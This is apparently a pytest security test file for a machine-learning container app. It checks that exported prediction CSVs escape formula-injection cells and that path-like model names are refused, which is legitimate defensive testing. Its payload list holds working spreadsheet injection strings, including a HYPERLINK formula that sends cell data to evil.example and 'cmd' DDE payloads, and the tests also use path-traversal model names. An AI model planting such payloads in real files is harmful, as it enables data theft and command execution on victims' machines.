"""Hostile inputs for the machine-learning container: formula injection and foreign models.

Cells starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must come back in
the exported ``predictions.csv`` as text a spreadsheet will not run; signed numbers stay
numbers. Model names that look like paths are refused, so nothing outside the app's own
model store is ever unpickled.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from app.engine.core.specs import SpecialistSpec
from app.engine.orchestrator import Orchestrator
from tests.hostile.conftest import expect_refusal, run_task

pytestmark = [pytest.mark.hostile, pytest.mark.docker]

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _training(path: Path) -> Path:
    lines = ["size,label,note"] + [f"{i},{'big' if i > 10 else 'small'},plain" for i in range(1, 21)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_exported_predictions_are_safe_to_open_in_a_spreadsheet(engine: Orchestrator, user_dir: Path) -> None:
    train = _training(user_dir / "train.csv")
    made = run_task(
        engine,
        "train classifier random forest on train.csv target label save as hostile_rf",
        "machine-learning",
        [train],
    )
    assert made.view is not None and made.view.state == "succeeded", made
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["size", "note"])
    for i, payload in enumerate(PAYLOADS):
        writer.writerow([i * 4 + 1, payload])
    writer.writerow(["-3", "-3.5"])
    new = user_dir / "new.csv"
    new.write_text(rows.getvalue(), encoding="utf-8")
    outcome = run_task(engine, "predict with model hostile_rf on new.csv", "machine-learning", [new])
    assert outcome.view is not None and outcome.view.state == "succeeded", outcome
    art = next(a for a in outcome.view.artifacts if a.name.endswith("predictions.csv"))
    exported = list(csv.reader(io.StringIO(Path(art.path).read_text(encoding="utf-8"))))
    notes = [row[exported[0].index("note")] for row in exported[1:]]
    for cell in notes[:-1]:
        assert cell.startswith("'"), f"a formula cell was exported as is: {cell!r}"
    assert notes[-1] == "-3.5", "a signed number must stay a number"
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row if not _number(cell)
    ), exported


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class _Planner:
    """Stands in for the planning model: a plan naming ``model`` (a path, not a name)."""

    def __init__(self, model: str) -> None:
        self.model = model

    def plan(
        self,
        spec: SpecialistSpec,
        text: str,
        inputs_meta: Sequence[Mapping[str, Any]] = (),
        timeout_s: float | None = None,
    ) -> dict[str, Any]:
        return {"action": "predict", "model_name": self.model, "file": "new.csv"}


def test_models_are_only_loaded_from_the_apps_own_store(
    engine: Orchestrator, user_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    new = _training(user_dir / "new.csv")
    typed = run_task(engine, "predict with model ../../input/x/evil on new.csv", "machine-learning", [new])
    assert typed.failed and typed.view is not None and typed.view.error_kind == "needs_plan", typed
    assert engine.dispatcher is not None
    monkeypatch.setattr(engine.dispatcher, "coder", None)
    for name in ("../../input/x/evil", "/data/models/evil", "evil.joblib/../../x"):
        monkeypatch.setattr(engine.dispatcher, "planner", _Planner(name))
        outcome = run_task(engine, "use the model I sent to predict new.csv", "machine-learning", [new], planning=True)
        expect_refusal(outcome, "model name", "letters, digits", kinds=("bad_plan", "bad_input"))
